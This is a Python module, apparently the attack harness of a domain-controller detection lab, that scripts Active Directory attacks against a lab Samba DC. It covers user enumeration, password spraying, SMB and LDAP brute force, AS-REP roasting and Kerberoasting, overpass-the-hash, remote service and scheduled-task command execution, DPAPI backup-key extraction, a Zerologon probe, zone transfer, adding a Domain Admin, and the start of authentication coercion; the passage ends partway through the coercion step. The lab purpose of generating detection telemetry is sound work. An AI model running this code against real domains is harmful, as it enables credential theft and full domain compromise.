"""Attack (and benign) steps of the dcwatch lab, run inside a workstation namespace.

    ip netns exec dcw-ws1 /var/lib/dcwatch-lab/venv/bin/python -m lab.attacks STEP [options]

Each step is a real client conversation with the Samba DC (impacket / ldap3 / raw sockets), so
the DC's capture and audit log see exactly what a Windows DC would be sent. Steps print one
line per observable result; failures that a Samba DC is expected to produce (e.g. no service
creation) are reported, not raised. Loot (ccaches, hashes) goes to $DCW_LAB_WORK.
"""

from __future__ import annotations

import argparse
import contextlib
import datetime
import json
import os
import random
import socket
import struct
import sys
import time
from pathlib import Path

from impacket.dcerpc.v5 import transport
from impacket.krb5 import constants
from impacket.krb5.ccache import CCache
from impacket.krb5.kerberosv5 import KerberosError, getKerberosTGT
from impacket.krb5.types import Principal
from impacket.ntlm import compute_nthash
from impacket.smbconnection import SMBConnection

from lab import impacket_patches

REALM = "CONTOSO.LOCAL"
DOMAIN = "CONTOSO"
FQDN_DOMAIN = "contoso.local"
DC = "dc01.contoso.local"
DC_IP = "10.77.0.10"
WORK = Path(os.environ.get("DCW_LAB_WORK", "/var/lib/dcwatch-lab/work"))
ENC_RC4 = int(constants.EncryptionTypes.rc4_hmac.value)


def out(msg: str) -> None:
    print(msg, flush=True)


def nthash_of(password: str) -> str:
    return compute_nthash(password).hex()


# --------------------------------------------------------------------------- kerberos helpers


def tgt(user: str, password: str = "", nthash: str = "", aes: str = ""):
    """AS exchange; returns (tgt, cipher, oldSessionKey, sessionKey). RC4-only if only nthash."""
    principal = Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
    return getKerberosTGT(
        principal, password, REALM, b"", bytes.fromhex(nthash) if nthash else b"", aes, kdcHost=DC
    )


def save_tgt(t, path: Path) -> None:
    cc = CCache()
    cc.fromTGT(t[0], t[2], t[3])
    cc.saveFile(str(path))


def load_ccache(path: Path):
    """(tgt dict usable by kerberosLogin, username) from a ccache file."""
    cc = CCache.loadFile(str(path))
    principal = cc.principal.prettyPrint().decode().split("@")[0]
    cred = cc.getCredential(f"krbtgt/{REALM}@{REALM}")
    if cred is None:
        cred = cc.credentials[0]
    return cred.toTGT(), principal


def tgs(t: dict, spn: str, etypes=None):
    """TGS exchange with a TGT dict ({'KDC_REP','cipher','sessionKey'})."""
    from impacket.krb5 import kerberosv5

    server = Principal(spn, type=constants.PrincipalNameType.NT_SRV_INST.value)
    return kerberosv5.getKerberosTGS(
        server, REALM, DC, t["KDC_REP"], t["cipher"], t["sessionKey"], etypes=etypes
    )


def as_tgt_dict(t) -> dict:
    return {"KDC_REP": t[0], "cipher": t[1], "sessionKey": t[3]}


def smb(
    user: str = "",
    password: str = "",
    nthash: str = "",
    kerberos_tgt: dict | None = None,
    domain: str = DOMAIN,
    workstation: str = "",
) -> SMBConnection:
    # workstation: the client name NTLM carries (Windows always sends it; impacket: empty)
    conn = SMBConnection(DC, DC_IP, myName=workstation or None, sess_port=445)
    if kerberos_tgt is not None:
        conn.kerberosLogin(user, "", REALM, TGT=kerberos_tgt, kdcHost=DC, useCache=False)
    else:
        conn.login(user, password, domain, "", nthash)
    return conn


def rpc_over_smb(conn: SMBConnection, pipe: str):
    rpct = transport.SMBTransport(DC_IP, 445, pipe, smb_connection=conn)
    dce = rpct.get_dce_rpc()
    dce.connect()
    return dce


def this_workstation() -> str:
    """NetBIOS name of the namespace's host (ip netns exec mounts /etc/netns/<ns>/hostname)."""
    try:
        return Path("/etc/hostname").read_text().split(".")[0].strip().upper()
    except OSError:
        return ""


def creds_from(args) -> dict:
    """--user/--password/--nthash/--ccache -> kwargs for smb()."""
    if args.ccache:
        t, user = load_ccache(Path(args.ccache))
        return {"user": user, "kerberos_tgt": t}
    return {"user": args.user, "password": args.password or "", "nthash": args.nthash or ""}


def krb_error(e: Exception) -> str:
    if isinstance(e, KerberosError):
        return constants.ErrorCodes(e.getErrorCode()).name
    return f"{type(e).__name__}: {e}"


# --------------------------------------------------------------------------- steps


def step_smb_login(args):
    """Log on to the DC over SMB, list shares, optionally read files from a share.
    --workstation: NTLM names this host, as Windows does (impacket alone sends no name)."""
    conn = smb(**creds_from(args), workstation=this_workstation() if args.workstation else "")
    shares = [s["shi1_netname"][:-1] for s in conn.listShares()]
    out(f"smb logon ok as {args.user or 'ccache'}; shares: {', '.join(shares)}")
    for spec in args.read or []:
        share, path = spec.split(":", 1)
        try:
            n = [0]

            def cb(data, n=n):
                n[0] += len(data)

            conn.getFile(share, path, cb)
            out(f"read \\\\{DC}\\{share}\\{path}: {n[0]} bytes")
        except Exception as e:  # noqa: BLE001
            out(f"read {share}:{path} failed: {e}")
    for spec in args.list or []:
        share, path = spec.split(":", 1)
        try:
            names = [f.get_longname() for f in conn.listPath(share, path)]
            out(f"list \\\\{DC}\\{share}\\{path}: {len(names)} entries")
        except Exception as e:  # noqa: BLE001
            out(f"list {share}:{path} failed: {e}")
    if args.hold:
        out(f"holding the session open for {args.hold}s")
        time.sleep(args.hold)
    conn.logoff()


def step_session_enum(args):
    """NetrSessionEnum over \\pipe\\srvsvc (levels 10, 502, 1, 0)."""
    from impacket.dcerpc.v5 import srvs

    conn = smb(**creds_from(args))
    dce = rpc_over_smb(conn, r"\srvsvc")
    dce.bind(srvs.MSRPC_UUID_SRVS)
    for level in args.levels:
        try:
            resp = srvs.hNetrSessionEnum(dce, "\x00", "\x00", level)
            buf = resp["InfoStruct"]["SessionInfo"][f"Level{level}"]["Buffer"]
            sess = []
            for s in buf:
                cname = s[f"sesi{level}_cname"][:-1]
                uname = s[f"sesi{level}_username"][:-1] if level != 0 else ""
                sess.append(f"{cname}:{uname}")
            out(f"NetrSessionEnum level {level}: {len(sess)} sessions {sess}")
        except Exception as e:  # noqa: BLE001
            out(f"NetrSessionEnum level {level}: {str(e)[:120]}")
    dce.disconnect()
    conn.logoff()


def step_samr_recon(args):
    """SAMR: connect, enumerate domains, users, Domain Admins members, lookup RIDs."""
    from impacket.dcerpc.v5 import samr

    conn = smb(**creds_from(args))
    dce = rpc_over_smb(conn, r"\samr")
    dce.bind(samr.MSRPC_UUID_SAMR)
    h = samr.hSamrConnect5(dce, f"\\\\{DC}\x00", samr.MAXIMUM_ALLOWED)["ServerHandle"]
    doms = samr.hSamrEnumerateDomainsInSamServer(dce, h)["Buffer"]["Buffer"]
    out("domains: " + ", ".join(d["Name"] for d in doms))
    sid = samr.hSamrLookupDomainInSamServer(dce, h, DOMAIN)["DomainId"]
    dh = samr.hSamrOpenDomain(dce, h, samr.MAXIMUM_ALLOWED, sid)["DomainHandle"]
    users = samr.hSamrEnumerateUsersInDomain(dce, dh)["Buffer"]["Buffer"]
    out(f"EnumDomainUsers: {len(users)} users")
    groups = samr.hSamrEnumerateGroupsInDomain(dce, dh)["Buffer"]["Buffer"]
    out(f"EnumDomainGroups: {len(groups)} groups")
    for rid, label in ((512, "Domain Admins"), (519, "Enterprise Admins")):
        gh = samr.hSamrOpenGroup(dce, dh, samr.MAXIMUM_ALLOWED, rid)["GroupHandle"]
        mem = samr.hSamrGetMembersInGroup(dce, gh)["Members"]["Members"]
        rids = [m["Data"] for m in mem]
        names = []
        if rids:
            names = [
                n["Data"] for n in samr.hSamrLookupIdsInDomain(dce, dh, rids)["Names"]["Element"]
            ]
        out(f"{label} members: {names}")
        samr.hSamrCloseHandle(dce, gh)
    # BUILTIN\Administrators
    bsid = samr.hSamrLookupDomainInSamServer(dce, h, "Builtin")["DomainId"]
    bh = samr.hSamrOpenDomain(dce, h, samr.MAXIMUM_ALLOWED, bsid)["DomainHandle"]
    ah = samr.hSamrOpenAlias(dce, bh, samr.MAXIMUM_ALLOWED, 544)["AliasHandle"]
    mem = samr.hSamrGetMembersInAlias(dce, ah)["Members"]["Sids"]
    out(f"BUILTIN\\Administrators: {len(mem)} member SIDs")
    dce.disconnect()
    conn.logoff()


def ldap_conn(args):
    import ldap3

    server = ldap3.Server(DC, port=389, get_info=ldap3.NONE)
    if args.ccache:
        raise SystemExit("ldap with a ccache is not used by the lab")
    # simple bind (Samba: "ldap server require strong auth = no"); Samba does not speak the
    # Sicily NTLM bind that ldap3's NTLM mode uses, and SASL binds would seal the queries
    conn = ldap3.Connection(
        server,
        user=f"{args.user}@{FQDN_DOMAIN}",
        password=args.password,
        authentication=ldap3.SIMPLE,
        auto_bind=True,
    )
    return conn


def step_ldap_recon(args):
    """BloodHound/SharpHound-like LDAP collection queries."""
    import ldap3

    conn = ldap_conn(args)
    base = "DC=contoso,DC=local"
    conn.search(
        "",
        "(objectClass=*)",
        search_scope=ldap3.BASE,
        attributes=[
            "defaultNamingContext",
            "configurationNamingContext",
            "schemaNamingContext",
            "dnsHostName",
        ],
    )
    queries = [
        ("(objectClass=domain)", ["objectSid", "ms-DS-MachineAccountQuota", "gPLink"]),
        (
            "(samAccountType=805306368)",
            [
                "sAMAccountName",
                "distinguishedName",
                "userAccountControl",
                "memberOf",
                "pwdLastSet",
                "lastLogon",
                "servicePrincipalName",
                "adminCount",
                "objectSid",
            ],
        ),
        (
            "(|(samAccountType=268435456)(samAccountType=268435457)(samAccountType=536870912)"
            "(samAccountType=536870913))",
            ["sAMAccountName", "member", "objectSid"],
        ),
        ("(objectCategory=group)", ["cn", "member"]),
        ("(adminCount=1)", ["sAMAccountName", "memberOf"]),
        (
            "(&(samAccountType=805306368)(servicePrincipalName=*))",
            ["sAMAccountName", "servicePrincipalName"],
        ),
        (
            "(&(objectCategory=person)(objectClass=user)"
            "(userAccountControl:1.2.840.113556.1.4.803:=4194304))",
            ["sAMAccountName"],
        ),
        ("(userAccountControl:1.2.840.113556.1.4.803:=524288)", ["sAMAccountName"]),
        (
            "(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))",
            ["dNSHostName"],
        ),
        ("(objectClass=computer)", ["dNSHostName", "operatingSystem", "servicePrincipalName"]),
        ("(objectClass=groupPolicyContainer)", ["displayName", "gPCFileSysPath"]),
        ("(objectClass=trustedDomain)", ["trustPartner", "trustDirection"]),
        ("(objectClass=organizationalUnit)", ["name", "gPLink"]),
        ("(msDS-AllowedToDelegateTo=*)", ["sAMAccountName", "msDS-AllowedToDelegateTo"]),
    ]
    for flt, attrs in queries:
        conn.search(base, flt, attributes=attrs, paged_size=500)
        out(f"LDAP {flt[:70]}: {len(conn.entries)} entries")
    conn.unbind()


def step_user_enum(args):
    """AS-REQs for many candidate names: KDC_ERR_C_PRINCIPAL_UNKNOWN for absent ones."""
    names = args.names or []
    if args.count:
        rnd = random.Random(7)
        first = [
            "john",
            "mary",
            "james",
            "linda",
            "robert",
            "susan",
            "michael",
            "karen",
            "william",
            "nancy",
            "david",
            "lisa",
            "richard",
            "betty",
            "joseph",
            "helen",
            "thomas",
            "sandra",
            "charles",
            "donna",
            "admin",
            "test",
            "guest",
            "backup",
            "sql",
            "web",
            "oracle",
            "ftp",
            "scanner",
            "printer",
        ]
        while len(names) < args.count:
            n = rnd.choice(first) + rnd.choice(["", ".smith", ".jones", "1", "2", ".adm"])
            if n not in names:
                names.append(n)
    found = []
    for n in names:
        try:
            tgt(n, "NotThePassword-1")
            found.append(n)
        except Exception as e:  # noqa: BLE001
            err = krb_error(e)
            if err != "KDC_ERR_C_PRINCIPAL_UNKNOWN":
                found.append(n)
            out(f"{n}: {err}")
    out(f"existing accounts: {found}")


def step_spray(args):
    """One password against many accounts over Kerberos (AS-REQ with PA-ENC-TIMESTAMP)."""
    for u in args.users:
        try:
            tgt(u, args.password)
            out(f"{u}: VALID password")
        except Exception as e:  # noqa: BLE001
            out(f"{u}: {krb_error(e)}")
        time.sleep(args.delay)


def step_brute_ntlm(args):
    """Many passwords against one (or a few) accounts over SMB NTLM. --ntlmv1: NTLMv1
    responses (impacket's USE_NTLMv2 = False), as old brute-force tools' own NTLM code sends."""
    if args.ntlmv1:
        import functools

        from impacket import ntlm

        # USE_NTLMv2 is bound as a default argument at import: pass it where smb3 calls
        ntlm.getNTLMSSPType1 = functools.partial(ntlm.getNTLMSSPType1, use_ntlmv2=False)
        ntlm.getNTLMSSPType3 = functools.partial(ntlm.getNTLMSSPType3, use_ntlmv2=False)
    for u in args.users:
        for pw in args.passwords:
            try:
                c = SMBConnection(DC, DC_IP, sess_port=445)
                c.login(u, pw, DOMAIN)
                out(f"{u}:{pw} VALID")
                c.logoff()
            except Exception as e:  # noqa: BLE001
                out(f"{u}:{pw} {str(e)[:60]}")
            time.sleep(args.delay)


def step_ldap_brute(args):
    """Many LDAP simple binds (cleartext passwords) against several accounts, one connection
    per attempt, as LDAP brute-force tools do."""
    import ldap3

    server = ldap3.Server(DC, port=389, get_info=ldap3.NONE)
    for u in args.users:
        for pw in args.passwords:
            c = ldap3.Connection(
                server, user=f"{u}@{FQDN_DOMAIN}", password=pw, authentication=ldap3.SIMPLE
            )
            try:
                ok = c.bind()
                out(f"{u}:{pw} {'VALID' if ok else c.result.get('description')}")
            except Exception as e:  # noqa: BLE001
                out(f"{u}:{pw} {str(e)[:60]}")
            finally:
                c.unbind()
            time.sleep(args.delay)


def step_asrep_roast(args):
    """AS-REQ without pre-authentication asking for RC4 only; prints a hashcat $krb5asrep$."""
    from impacket.krb5.asn1 import AS_REP, AS_REQ, KERB_PA_PAC_REQUEST, seq_set, seq_set_iter
    from impacket.krb5.kerberosv5 import sendReceive
    from impacket.krb5.types import KerberosTime
    from pyasn1.codec.der import decoder, encoder
    from pyasn1.type.univ import noValue

    for user in args.users:
        req = AS_REQ()
        req["pvno"] = 5
        req["msg-type"] = int(constants.ApplicationTagNumbers.AS_REQ.value)
        pac = KERB_PA_PAC_REQUEST()
        pac["include-pac"] = True
        req["padata"] = noValue
        req["padata"][0] = noValue
        req["padata"][0]["padata-type"] = int(
            constants.PreAuthenticationDataTypes.PA_PAC_REQUEST.value
        )
        req["padata"][0]["padata-value"] = encoder.encode(pac)
        body = seq_set(req, "req-body")
        body["kdc-options"] = constants.encodeFlags(
            [
                constants.KDCOptions.forwardable.value,
                constants.KDCOptions.renewable.value,
                constants.KDCOptions.proxiable.value,
            ]
        )
        seq_set(
            body,
            "sname",
            Principal(
                f"krbtgt/{REALM}", type=constants.PrincipalNameType.NT_SRV_INST.value
            ).components_to_asn1,
        )
        seq_set(
            body,
            "cname",
            Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value).components_to_asn1,
        )
        body["realm"] = REALM
        now = datetime.datetime.now(datetime.UTC) + datetime.timedelta(days=1)
        body["till"] = KerberosTime.to_asn1(now)
        body["rtime"] = KerberosTime.to_asn1(now)
        body["nonce"] = random.getrandbits(31)
        seq_set_iter(body, "etype", tuple(args.etypes))
        try:
            r = sendReceive(encoder.encode(req), REALM, DC)
        except Exception as e:  # noqa: BLE001
            out(f"{user}: {krb_error(e)}")
            continue
        try:
            rep = decoder.decode(r, asn1Spec=AS_REP())[0]
        except Exception:  # noqa: BLE001 - a KRB-ERROR (e.g. PREAUTH_REQUIRED) comes back raw
            from impacket.krb5.asn1 import KRB_ERROR

            err = decoder.decode(r, asn1Spec=KRB_ERROR())[0]
            out(f"{user}: {constants.ErrorCodes(int(err['error-code'])).name}")
            continue
        ct = rep["enc-part"]["cipher"].asOctets()
        out(
            f"{user}: AS-REP without pre-auth, etype {int(rep['enc-part']['etype'])}: "
            f"$krb5asrep$23${user}@{REALM}:{ct[:16].hex()}${ct[16:40].hex()}..."
        )


def step_kerberoast(args):
    """TGT for a normal user, then TGS-REQs for SPN accounts asking for RC4 only."""
    t = as_tgt_dict(tgt(args.user, args.password))
    for spn in args.spns:
        try:
            r, _c, _o, _k = tgs(t, spn, etypes=[ENC_RC4])
            from impacket.krb5.asn1 import TGS_REP
            from pyasn1.codec.der import decoder

            rep = decoder.decode(r, asn1Spec=TGS_REP())[0]
            et = int(rep["ticket"]["enc-part"]["etype"])
            ct = rep["ticket"]["enc-part"]["cipher"].asOctets()
            out(f"{spn}: service ticket etype {et}: $krb5tgs${et}$*svc*${ct[:16].hex()}$...")
        except Exception as e:  # noqa: BLE001
            out(f"{spn}: {krb_error(e)}")


def step_asktgt(args):
    """AS exchange (password, RC4-only NT hash = overpass-the-hash, or AES key); saves a ccache."""
    t = tgt(args.user, args.password or "", args.nthash or "", args.aes or "")
    if args.save:
        save_tgt(t, Path(args.save))
    out(
        f"TGT for {args.user} (session key etype {int(t[3].enctype)})"
        + (f" saved to {args.save}" if args.save else "")
    )
    if args.use_spn:
        for spn in args.use_spn:
            tgs(as_tgt_dict(t), spn)
            out(f"service ticket for {spn}")
    if args.smb:
        conn = smb(user=args.user, kerberos_tgt=as_tgt_dict(t))
        shares = [s["shi1_netname"][:-1] for s in conn.listShares()]
        out(f"SMB with Kerberos ok, shares: {shares}")
        conn.logoff()


def step_svcctl(args):
    """svcctl: OpenSCManagerW, CreateServiceW(binpath), StartServiceW, DeleteService."""
    from impacket.dcerpc.v5 import scmr

    conn = smb(**creds_from(args))
    dce = rpc_over_smb(conn, r"\svcctl")
    dce.bind(scmr.MSRPC_UUID_SCMR)
    scm = scmr.hROpenSCManagerW(dce, "DC01\x00", "ServicesActive\x00", 0xF003F)[
        "lpScHandle"
    ]  # SC_MANAGER_ALL_ACCESS
    out("OpenSCManagerW ok")
    svc = None
    try:
        resp = scmr.hRCreateServiceW(
            dce,
            scm,
            args.name + "\x00",
            args.name + "\x00",
            lpBinaryPathName=args.binpath + "\x00",
            dwStartType=scmr.SERVICE_DEMAND_START,
        )
        svc = resp["lpServiceHandle"]
        out(f"CreateServiceW {args.name} ok")
    except Exception as e:  # noqa: BLE001
        out(f"CreateServiceW {args.name}: {str(e)[:100]}")
        try:
            svc = scmr.hROpenServiceW(dce, scm, args.name + "\x00")["lpServiceHandle"]
        except Exception as e2:  # noqa: BLE001
            out(f"OpenServiceW {args.name}: {str(e2)[:100]}")
    if svc is not None:
        for fn, label in (
            (scmr.hRStartServiceW, "StartServiceW"),
            (scmr.hRDeleteService, "DeleteService"),
        ):
            try:
                fn(dce, svc)
                out(f"{label} ok")
            except Exception as e:  # noqa: BLE001
                out(f"{label}: {str(e)[:100]}")
    dce.disconnect()
    conn.logoff()


TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Triggers><CalendarTrigger><StartBoundary>2015-07-15T20:35:13.2757294</StartBoundary>
  <Enabled>true</Enabled><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay>
  </CalendarTrigger></Triggers>
  <Principals><Principal id="LocalSystem"><UserId>S-1-5-18</UserId>
  <RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Settings><Hidden>true</Hidden><Enabled>true</Enabled></Settings>
  <Actions Context="LocalSystem"><Exec><Command>cmd.exe</Command>
  <Arguments>/C {cmd}</Arguments></Exec></Actions>
</Task>
"""


def step_atsvc(args):
    """Task Scheduler: SchRpcRegisterTask over \\pipe\\atsvc (ITaskSchedulerService) and the
    legacy NetrJobAdd. Samba has no atsvc endpoint: the pipe open is refused but is on the wire."""
    from impacket.dcerpc.v5 import atsvc, tsch

    conn = smb(**creds_from(args))
    for label, uuid in (("tsch", tsch.MSRPC_UUID_TSCHS), ("atsvc", atsvc.MSRPC_UUID_ATSVC)):
        try:
            dce = rpc_over_smb(conn, r"\atsvc")
            dce.bind(uuid)
            if label == "tsch":
                tsch.hSchRpcRegisterTask(
                    dce,
                    f"\\{args.name}",
                    TASK_XML.format(cmd=args.cmd),
                    tsch.TASK_CREATE,
                    tsch.NULL,
                    tsch.TASK_LOGON_NONE,
                )
                out(f"SchRpcRegisterTask \\{args.name} ok")
            else:
                info = atsvc.AT_INFO()
                info["JobTime"] = 0
                info["DaysOfMonth"] = 0
                info["DaysOfWeek"] = 0
                info["Flags"] = 0
                info["Command"] = args.cmd + "\x00"
                atsvc.hNetrJobAdd(dce, atsvc.NULL, info)
                out("NetrJobAdd ok")
            dce.disconnect()
        except Exception as e:  # noqa: BLE001
            out(f"{label} over \\pipe\\atsvc: {str(e)[:100]}")
    conn.logoff()


def step_bkrp(args):
    """MS-BKRP BackuprKey(BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID) over \\pipe\\protected_storage."""
    from impacket.dcerpc.v5 import bkrp
    from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY

    conn = smb(**creds_from(args), workstation=this_workstation())
    rpct = transport.SMBTransport(DC_IP, 445, r"\protected_storage", smb_connection=conn)
    dce = rpct.get_dce_rpc()
    dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.connect()
    dce.bind(bkrp.MSRPC_UUID_BKRP)
    try:
        resp = bkrp.hBackuprKey(dce, bkrp.BACKUPKEY_RETRIEVE_BACKUP_KEY_GUID, b"\x00" * 4)
        data = b"".join(resp["ppDataOut"])
        out(f"BackuprKey(RETRIEVE_BACKUP_KEY_GUID): {len(data)} bytes of public key cert")
    except Exception as e:  # noqa: BLE001
        out(f"BackuprKey: {str(e)[:120]}")
    dce.disconnect()
    conn.logoff()


def _backup_key_guid(preferred: bytes) -> str:
    """G$BCKUPKEY_PREFERRED / _P hold the GUID of the current key (MS-BKRP 3.1.4.1.1)."""
    from impacket.uuid import bin_to_string

    return bin_to_string(preferred[:16]).lower()


def _lsa_session_key(conn: SMBConnection) -> bytes:
    """The key LSA secrets are encrypted with over \\pipe\\lsarpc: the SMB session key, for
    SMB 3.x the application key (MS-SMB2 3.2.5.3.1). impacket derives the application key only
    when the server offers encryption, which the lab's DC does not (`server smb encrypt = off`),
    so `getSessionKey()` is empty here: derive it as impacket would."""
    from impacket import crypto
    from impacket.smb3structs import SMB2_DIALECT_30, SMB2_DIALECT_311

    key = conn.getSessionKey()
    if key:
        return key
    smb3 = conn.getSMBServer()
    sess, dialect = smb3._Session, conn.getDialect()
    if dialect == SMB2_DIALECT_311:
        return crypto.KDF_CounterMode(
            sess["SessionKey"], b"SMBAppKey\x00", sess["PreauthIntegrityHashValue"], 128
        )
    if dialect >= SMB2_DIALECT_30:
        return crypto.KDF_CounterMode(sess["SessionKey"], b"SMB2APP\x00", b"SmbRpc\x00", 128)
    return sess["SessionKey"]


def step_dpapi_backupkeys(args):
    """impacket `dpapi.py backupkeys` / mimikatz `lsadump::backupkeys /system:dc01`.

    Over SMB \\pipe\\lsarpc, as dpapi.py does it (no RPC-level auth: the SMB session
    authenticates and the stub travels in clear): LsarOpenPolicy2(POLICY_GET_PRIVATE_INFORMATION),
    then for G$BCKUPKEY_PREFERRED and G$BCKUPKEY_P: LsarRetrievePrivateData (the GUID of the
    current key) and LsarRetrievePrivateData(G$BCKUPKEY_<guid>) (the key itself). Values are
    decrypted with the SMB session key (MS-LSAD 5.1.2). --auth-level 5 binds with NTLM packet
    integrity (signed, not sealed), 6 with packet privacy (sealed).

    Samba implements no LsarRetrievePrivateData (fault nca_s_op_rng_error). The GUID is then
    read the other way LSA offers, LsarOpenSecret + LsarQuerySecret (what older tools do), so
    that the G$BCKUPKEY_<guid> retrieval is sent with the real GUID; the key itself is then read
    with LsarOpenSecret + LsarQuerySecret as well.
    """
    from impacket import crypto
    from impacket.dcerpc.v5 import lsad
    from impacket.dcerpc.v5.rpcrt import DCERPCException

    conn = smb(**creds_from(args), workstation=this_workstation())
    rpct = transport.SMBTransport(DC_IP, 445, r"\lsarpc", smb_connection=conn)
    dce = rpct.get_dce_rpc()
    level = args.auth_level
    if level:  # NTLM bind on top of the SMB session (dpapi.py itself binds without)
        dce.set_credentials(args.user, args.password, DOMAIN, "", args.nthash)
        dce.set_auth_level(level)
    dce.connect()
    dce.bind(lsad.MSRPC_UUID_LSAD)
    out(f"bound lsarpc over \\pipe\\lsarpc, RPC auth level {level or 'none (SMB session)'}")
    policy = lsad.hLsarOpenPolicy2(dce, lsad.POLICY_GET_PRIVATE_INFORMATION)["PolicyHandle"]
    out("LsarOpenPolicy2(POLICY_GET_PRIVATE_INFORMATION): policy handle")
    session_key = _lsa_session_key(conn)

    def retrieve(name: str) -> bytes | None:
        try:
            raw = lsad.hLsarRetrievePrivateData(dce, policy, name)
        except DCERPCException as e:
            out(f"LsarRetrievePrivateData({name}): {str(e)[:110]}")
            return None
        value = crypto.decryptSecret(session_key, raw)
        out(f"LsarRetrievePrivateData({name}): {len(raw)} encrypted bytes")
        return value

    def query(name: str) -> bytes | None:
        try:
            h = lsad.hLsarOpenSecret(dce, policy, name, lsad.SECRET_QUERY_VALUE)["SecretHandle"]
            resp = lsad.hLsarQuerySecret(dce, h)
        except DCERPCException as e:
            out(f"LsarOpenSecret/LsarQuerySecret({name}): {str(e)[:110]}")
            return None
        raw = (
            b"".join(resp["EncryptedCurrentValue"]["Buffer"])
            if resp["EncryptedCurrentValue"]
            else b""
        )
        out(f"LsarOpenSecret + LsarQuerySecret({name}): {len(raw)} encrypted bytes")
        lsad.hLsarClose(dce, h)
        return crypto.decryptSecret(session_key, raw) if raw else None

    def describe(name: str, secret: bytes | None) -> None:
        if secret and len(secret) >= 4:
            version = struct.unpack("<L", secret[:4])[0]
            kind = {1: "legacy key", 2: "RSA private key + certificate"}.get(version, "?")
            out(f"  {name}: version {version} ({kind}), {len(secret)} bytes in clear")

    for pointer in ("G$BCKUPKEY_PREFERRED", "G$BCKUPKEY_P"):
        current = retrieve(pointer)
        via_query = current is None
        if via_query:
            current = query(pointer)
        if current is None or len(current) < 16:
            continue
        name = f"G$BCKUPKEY_{_backup_key_guid(current)}"
        out(f"{pointer} -> {name}")
        secret = retrieve(name)
        if secret is None and via_query:
            secret = query(name)
        describe(name, secret)
    lsad.hLsarClose(dce, policy)
    dce.disconnect()
    conn.logoff()


def step_zerologon(args):
    """NetrServerReqChallenge + NetrServerAuthenticate3 with an all-zero credential, repeated
    (CVE-2020-1472 probe; Samba is not vulnerable)."""
    from impacket.dcerpc.v5 import epm, nrpc

    binding = epm.hept_map(DC_IP, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    rpct = transport.DCERPCTransportFactory(binding)
    dce = rpct.get_dce_rpc()
    dce.connect()
    dce.bind(nrpc.MSRPC_UUID_NRPC)
    ok = 0
    for _i in range(args.attempts):
        try:
            nrpc.hNetrServerReqChallenge(dce, "\\\\DC01\x00", "DC01\x00", b"\x00" * 8)
            nrpc.hNetrServerAuthenticate3(
                dce,
                "\\\\DC01\x00",
                "DC01$\x00",
                nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
                "DC01\x00",
                b"\x00" * 8,
                0x212FFFFF,
            )
            ok += 1
        except Exception as e:  # noqa: BLE001
            err = str(e)
            if "STATUS_ACCESS_DENIED" not in err:
                out(f"attempt: {err[:100]}")
    out(f"{args.attempts} zero-credential NetrServerAuthenticate3 attempts, {ok} accepted")
    dce.disconnect()


def step_dns_axfr(args):
    """DNS zone transfer (AXFR over TCP) for the AD zone, plus a few SRV look-ups over UDP."""

    def q(name: str, qtype: int, tid: int) -> bytes:
        hdr = struct.pack(">HHHHHH", tid, 0x0100 if qtype != 252 else 0, 1, 0, 0, 0)
        qn = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00"
        return hdr + qn + struct.pack(">HH", qtype, 1)

    for name in args.srv:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(3)
        s.sendto(q(name, 33, random.getrandbits(16)), (DC_IP, 53))
        try:
            r = s.recv(4096)
            out(f"SRV {name}: rcode {r[3] & 0xF}, {struct.unpack('>H', r[6:8])[0]} answers")
        except OSError as e:
            out(f"SRV {name}: {e}")
        s.close()
    for zone in args.zones:
        s = socket.create_connection((DC_IP, 53), timeout=5)
        m = q(zone, 252, random.getrandbits(16))
        s.sendall(struct.pack(">H", len(m)) + m)
        try:
            ln = struct.unpack(">H", s.recv(2))[0]
            r = b""
            while len(r) < ln:
                chunk = s.recv(ln - len(r))
                if not chunk:
                    break
                r += chunk
            out(f"AXFR {zone}: rcode {r[3] & 0xF}, {struct.unpack('>H', r[6:8])[0]} records")
        except OSError as e:
            out(f"AXFR {zone}: {e}")
        s.close()


def step_add_admin(args):
    """As an admin over LDAP: create a user, add it to Domain Admins and BUILTIN\\Administrators."""
    import ldap3

    conn = ldap_conn(args)
    base = "DC=contoso,DC=local"
    dn = f"CN={args.new_user},CN=Users,{base}"
    ok = conn.add(
        dn,
        ["top", "person", "organizationalPerson", "user"],
        {
            "sAMAccountName": args.new_user,
            "userPrincipalName": f"{args.new_user}@{FQDN_DOMAIN}",
            "userAccountControl": 0x202,
            "description": "created by lab",
        },
    )
    out(f"add {dn}: {conn.result['description']}")
    for grp in args.groups:
        gdn = (
            f"CN={grp},CN=Users,{base}"
            if grp != "Administrators"
            else f"CN=Administrators,CN=Builtin,{base}"
        )
        conn.modify(gdn, {"member": [(ldap3.MODIFY_ADD, [dn])]})
        out(f"add member to {grp}: {conn.result['description']}")
    if args.cleanup_after:
        time.sleep(args.cleanup_after)
        conn.delete(dn)
        out(f"delete {dn}: {conn.result['description']}")
    conn.unbind()
    _ = ok


def step_coerce(args):
    """Authentication coercion against the DC with a UNC path to ``--name`` (the listener):
    PetitPotam EfsRpcOpenFileRaw over \\pipe\\lsarpc, PrinterBug RpcOpenPrinter +
    RpcRemoteFindFirstPrinterChangeNotificationEx over \\pipe\\spoolss, DFSCoerce
    NetrDfsAddStdRoot over \\pipe\\netdfs. Each call is sent whatever Samba serves;
    results (faults, errors) are printed."""
    from impacket.dcerpc.v5 import rprn
    from impacket.dcerpc.v5.dtypes import ULONG, WSTR
    from impacket.dcerpc.v5.ndr import NDRCALL
    from impacket.uuid import uuidtup_to_bin

    class EfsRpcOpenFileRaw(NDRCALL):  # MS-EFSR 3.1.4.2.1, opnum 0
        opnum = 0
        structure = (("FileName", WSTR), ("Flag", ULONG))

